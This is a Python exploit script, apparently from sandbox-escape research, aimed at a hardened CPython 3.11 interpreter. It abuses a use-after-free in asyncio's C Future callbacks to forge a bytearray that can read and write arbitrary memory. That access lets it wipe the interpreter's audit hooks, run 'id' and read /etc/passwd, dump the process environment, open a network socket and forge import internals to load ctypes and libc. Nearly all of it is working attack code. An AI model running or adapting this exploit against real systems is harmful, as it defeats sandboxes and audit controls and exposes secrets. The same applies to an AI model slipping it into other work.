# family: wall (memory: gh-126405, gh-125789, Future._callbacks is the future's own list)   goal: id   interpreter: /usr/bin/python3
#        -> use after free -> raw memory -> audit hook list emptied
#
# Family: memory safety of CPython 3.11 (X54's bug, past X54's guard).
# Mechanism: with no first callback, the C Future's _callbacks getter answers the
#   future's own list, not a copy (gh-125789, fixed in 3.12 and later only). With
#   one item in it, remove_done_callback compares that item's callback borrowed
#   (gh-126405). V, the callback, has its __eq__ clear the list through _callbacks:
#   its tuple and V (an 80-byte GC block) are freed when the __eq__ returns
#   NotImplemented, and do_richcompare calls the reflected Wc.__eq__ with the
#   dangling V. bytearray(FAKE) takes the block back: a fake bytearray of 2**62
#   bytes at address 0. X54's guard held "the callbacks" by keeping what
#   _callbacks answered, which here is that same list: clearing it frees them.
#   Then the wall9 recipe: audit_hooks ob_size = 0; os.system, open, socket,
#   frames, _imp forged -> ctypes.
# Goals reached on the image of main (X54's guard in place): audit hook removed;
#   `id`; /etc/passwd; environment; AF_INET socket; entrypoint frames and globals;
#   native library (ctypes + libc).
#
import sys
os = sys.modules["os"]
import asyncio
keep = []
W = lambda v: v.to_bytes(8, "little")
FAKE = (W(0) + W(0) + W(1 << 40) + W(id(bytearray)) + W(1 << 62) + W(1 << 62)
        + W(0) + W(0) + W(1))[:73]
loop = asyncio.new_event_loop()
fut = loop.create_future()
armed = [False]
class V:
    __slots__ = ("a", "b", "c", "d", "e", "f")
    def __call__(s, f): pass
    def __eq__(s, o):
        if armed[0]:
            armed[0] = False
            fut._callbacks.clear()   # the future's own list: V's tuple, then V, go
        return NotImplemented
class Wc:
    def __call__(s, f): pass
    def __eq__(s, o):
        keep.append(bytearray(FAKE))
        keep.append(o)
        return False
def raw_memory():
    first = lambda f: None
    fut.add_done_callback(first)      # the first callback
    fut.add_done_callback(V())        # the list's only item
    fut.remove_done_callback(first)   # no first callback now
    armed[0] = True
    w = Wc()
    fut.remove_done_callback(w)
    keep.append(w)
    return keep[-2]
mem = raw_memory()
print(type(mem).__name__, "of", hex(len(mem)), "bytes at address 0", flush=True)
rd = lambda a: int.from_bytes(mem[a:a + 8], "little")
# image's /usr/bin/python3.11 (3.11.2): &_PyRuntime - &PyType_Type, main interpreter,
# audit_hooks (measured for wall7 ok_05 with ctypes outside the sandbox)
OFF_RT, OFF_INTERP, OFF_HOOKS = 1060224, 58936, (3552, 3880)
interp = id(type) + OFF_RT + OFF_INTERP
for off in OFF_HOOKS:
    lst = rd(interp + off)
    if not lst or rd(lst + 8) != id(list) or rd(lst + 16) != 1:
        continue
    fn = rd(rd(lst + 24))
    if rd(fn + 8) != id(type(raw_memory)):
        continue
    name = rd(fn + 32)                                      # func_name
    text = bytes(mem[name + 48:name + 48 + rd(name + 16)])  # compact ASCII str
    print("interp+%d: the interpreter's audit hooks: [function %r]" % (off, text))
    if text == b"hook":
        mem[lst + 16:lst + 24] = bytes(8)                   # ob_size = 0: no hook
        print("audit hook list emptied", flush=True)
os.system("id; head -2 /etc/passwd")
print(open("/proc/self/environ", "rb").read().replace(b"\0", b" "))
socket = sys.modules["socket"]
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); print("AF_INET socket:", s)
# frames and globals of the entrypoint (sys._getframe is no longer audited)
f = sys._getframe(0)
while f.f_back is not None:
    f = f.f_back
    print("frame:", f.f_code.co_name, "| globals:", f.f_globals.get("__file__"), "WALL_EXIT" in f.f_globals)
# a native library: _imp's loaders are the wall's stubs and the originals are gone;
# forged back with the memory view: a copy of a real _imp function object whose m_ml
# points at the method table entry of create_dynamic / exec_dynamic.
_imp = sys.modules["_imp"]
def entry(name):
    ml0 = rd(id(_imp.is_builtin) + 16)             # PyCFunctionObject.m_ml (imp_methods[])
    for k in range(0, 16):                          # the loaders follow is_builtin
        p = rd(ml0 + 32 * k)
        if p == 0:
            return None
        if bytes(mem[p:p + len(name) + 1]) == name + b"\0":
            return ml0 + 32 * k
keepalive = []
def forge(model, name):
    # 16 zero bytes (an untracked GC head), then a copy of the model with m_ml changed
    buf = bytearray(16) + bytearray(mem[id(model):id(model) + 56])
    buf[16:24] = (1 << 40).to_bytes(8, "little")
    buf[32:40] = entry(name).to_bytes(8, "little")
    keepalive.append(buf)
    addr = rd(id(buf) + 32) + 16                    # the bytearray's ob_start + 16
    holder = [None]
    mem[rd(id(holder) + 24):rd(id(holder) + 24) + 8] = addr.to_bytes(8, "little")
    return holder[0]
_imp.create_dynamic = forge(_imp._fix_co_filename, b"create_dynamic")   # METH_FASTCALL
_imp.exec_dynamic = forge(_imp.is_builtin, b"exec_dynamic")           # METH_O
ctypes = sys.modules["importlib"].import_module("ctypes")
libc = ctypes.CDLL("libc.so.6")
print("ctypes loaded, libc getpid() =", libc.getpid(), "getuid() =", libc.getuid())
sys.stdout.flush()
os._exit(0)
